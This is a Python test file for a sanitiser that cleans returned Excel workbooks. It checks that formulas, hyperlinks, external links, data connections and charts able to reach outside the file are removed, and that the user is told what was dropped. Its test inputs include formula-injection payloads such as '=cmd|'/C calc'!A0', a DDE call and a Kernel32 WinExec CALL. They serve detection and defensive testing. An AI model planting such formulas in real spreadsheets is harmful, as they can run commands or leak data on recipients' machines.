"""Nothing in a copy reaches outside of it, and what is lost is told."""

import io
import zipfile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.table import Table

from orchestration.feedback.workbook.outside import reaches_outside
from tests.making import spreadsheetml as xml
from tests.making.files import make
from tests.making.returns import valid_return
from tests.unit.feedback.returning import give_back, opened, saved

AV = "aller_vers"
EXTERNAL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def sent_with(change):
    book = valid_return().set(AV, column="femmes", value=14).add_column("gouvernance", "remarque")
    workbook = openpyxl.load_workbook(io.BytesIO(make(book)))
    change(workbook)
    return saved(workbook)


def everything(data):
    return b"\n".join(content for name, content in xml.members_of(data).items())


@pytest.mark.parametrize(
    "formula",
    [
        "=[1]Feuil1!A1",
        "='[1]Feuille une (2)'!$A$1",
        "=SUM(A1,[12]Feuil1!B2:B9)",
        "=[1]!nom",
        "=[autre.xlsx]Feuil1!A1",
        "='C:\\temp\\[autre.xlsx]Feuil1'!A1",
        "='https://exemple.fr/[autre.xlsx]Feuil1'!A1",
        "=cmd|'/C calc'!A0",
        '=DDE("soffice";"a";"b")',
        '=WEBSERVICE("https://exemple.fr/"&A1)',
        "=_xlfn.WEBSERVICE(A1)",
        "=_xlfn._xlws.PY(0,1)",
        '=1+hyperlink("https://exemple.fr")',
        "=IMAGE(A1)",
        '=IMPORTXML(A1,"//a")',
        '=RTD("prog.id",,"x")',
        '=CALL("Kernel32","WinExec","JC")',
        '=CUBEVALUE("ThisWorkbookDataModel",A1)',
    ],
)
def test_a_formula_that_reaches_outside_is_recognised(formula):
    assert reaches_outside(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(B3:B4)",
        "=COUNTA('Aller-vers'!$A$6:$A$1005)",
        '=SUMPRODUCT(ISNUMBER(A1:A9)*((A1:A9="")+(A1:A9>DATE(2023,12,31))>0))',
        "=SUM(Tableau1[femmes])",
        "=Tableau1[[#This Row],[2023]]",
        "=SUM(Tableau1[2023])",
        '=IF(A1="https://exemple.fr","lien | autre","[1]Feuil1!A1")',
        '="WEBSERVICE("&A1',
        "=COPY(A1)",
        "=RECALL(A1)",
        "=Feuil1:Feuil3!A1",
        "=A1",
        "",
    ],
)
def test_any_other_formula_is_left_alone(formula):
    assert not reaches_outside(formula)


def test_a_formula_that_reaches_outside_leaves_its_value():
    def write(workbook):
        workbook["Gouvernance"]["E2"].value = '=WEBSERVICE("https://exemple.fr")'

    sent = xml.members_of(sent_with(write))
    name = next(part for part, content in sent.items() if b"WEBSERVICE" in content)
    cell = b'<c r="E2" t="str"><f>WEBSERVICE("https://exemple.fr")</f><v>douze</v></c>'
    begin = sent[name].index(b'<c r="E2"')
    end = sent[name].index(b"</c>", begin) + 4
    sent[name] = sent[name][:begin] + cell + sent[name][end:]
    returned = give_back(xml.archive(sent))
    assert returned.workbook["Gouvernance"]["E2"].value == "douze"
    assert returned.workbook["Gouvernance"]["E2"].data_type == "s"
    assert b"exemple.fr" not in everything(returned.data)
    assert any(text.startswith("Par sécurité, les liens") for text in returned.texts())


def test_without_a_value_it_leaves_an_empty_cell():
    def write(workbook):
        workbook["Gouvernance"]["E2"].value = "=cmd|' /C calc'!A0"

    returned = give_back(sent_with(write))
    assert returned.workbook["Gouvernance"]["E2"].value is None


def test_a_link_to_the_network_is_cut_and_its_text_stays():
    def write(workbook):
        cell = workbook["Gouvernance"]["E2"]
        cell.value, cell.hyperlink = "notre site", "https://exemple.fr/page"

    returned = give_back(sent_with(write))
    cell = returned.workbook["Gouvernance"]["E2"]
    assert (cell.value, cell.hyperlink) == ("notre site", None)
    assert b"exemple.fr" not in everything(returned.data)


def test_a_link_within_the_workbook_stays():
    def write(workbook):
        cell = workbook["Gouvernance"]["E2"]
        cell.value, cell.hyperlink = "voir", Hyperlink(ref="E2", location="'Aller-vers'!A1")

    assert give_back(sent_with(write)).workbook["Gouvernance"]["E2"].hyperlink.location == "'Aller-vers'!A1"


def test_names_lists_and_formats_that_reach_outside_are_taken_out():
    def write(workbook):
        workbook.defined_names["ailleurs"] = DefinedName("ailleurs", attr_text="[1]Feuil1!$A$1")
        workbook.defined_names["ici"] = DefinedName("ici", attr_text="'Aller-vers'!$A$1")
        page = workbook["Gouvernance"]
        page.add_data_validation(DataValidation(type="list", formula1="[1]Feuil1!$A$1:$A$3", sqref="E3"))
        page.add_data_validation(DataValidation(type="list", formula1='"a,b"', sqref="E4"))

    workbook = give_back(sent_with(write)).workbook
    assert list(workbook.defined_names) == ["ici"]
    kept = [one.formula1 for one in workbook["Gouvernance"].data_validations.dataValidation]
    assert kept == ['"a,b"']


def test_a_chart_is_left_out_and_said_so():
    def write(workbook):
        chart = BarChart()
        chart.add_data(
            Reference(workbook["Aller-vers"], min_col=10, min_row=1, max_row=3), titles_from_data=True
        )
        workbook["Aller-vers"].add_chart(chart, "P2")

    returned = give_back(sent_with(write))
    assert not [name for name in xml.members_of(returned.data) if "chart" in name or "drawing1" in name]
    told = [text for text in returned.texts() if text.startswith("Cette copie ne reprend pas")]
    assert told == [
        "Cette copie ne reprend pas\u00a0: images, graphiques ou dessins. Votre fichier, lui, n'a pas changé."
    ]


def test_nothing_is_said_where_nothing_is_lost():
    returned = give_back(sent_with(lambda workbook: None))
    assert not [text for text in returned.texts() if "ne reprend pas" in text or "sécurité" in text]


@pytest.mark.parametrize(
    ("kind", "part", "word"),
    [
        ("externalLink", "xl/externalLinks/externalLink1.xml", "liens vers d'autres fichiers"),
        ("connections", "xl/connections.xml", "liens vers d'autres fichiers"),
        ("pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml", "tableaux croisés dynamiques"),
        ("customXml", "customXml/item1.xml", None),
        ("attachedToolbars", "xl/attachedToolbars.bin", None),
    ],
)
def test_other_parts_are_not_carried_over(kind, part, word):
    sent = xml.members_of(sent_with(lambda workbook: None))
    relation = f'<Relationship Id="rIdOther" Type="{EXTERNAL}/{kind}" Target="/{part}"/></Relationships>'
    rels = "xl/_rels/workbook.xml.rels"
    sent[rels] = sent[rels].replace(b"</Relationships>", relation.encode())
    sent[part] = b"<secret>https://exemple.fr</secret>"
    returned = give_back(xml.archive(sent))
    assert b"exemple.fr" not in everything(returned.data)
    assert part not in xml.members_of(returned.data)
    told = [text for text in returned.texts() if "ne reprend pas" in text]
    assert [word in text for text in told] == ([True] if word else [])


def test_a_table_filled_by_a_query_becomes_an_ordinary_table():
    def write(workbook):
        page = workbook["Gouvernance"]
        page["E1"].value = "remarque"
        page.add_table(Table(displayName="T1", ref="A1:E3", tableType="queryTable", connectionId=1))

    table = give_back(sent_with(write)).workbook["Gouvernance"].tables["T1"]
    assert (table.ref, table.tableType, table.connectionId) == ("A1:E3", None, None)


def test_a_copy_holds_nothing_but_what_a_workbook_needs():
    def write(workbook):
        workbook["Gouvernance"]["E2"].hyperlink = "https://exemple.fr"

    data = give_back(sent_with(write)).data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        folders = {name.rpartition("/")[0] for name in archive.namelist()}
    assert folders == {
        "",
        "_rels",
        "docProps",
        "xl",
        "xl/_rels",
        "xl/comments",
        "xl/drawings",
        "xl/theme",
        "xl/worksheets",
        "xl/worksheets/_rels",
    }
    assert b'TargetMode="External"' not in everything(data)
    assert opened(data).sheetnames[0] == "À corriger"
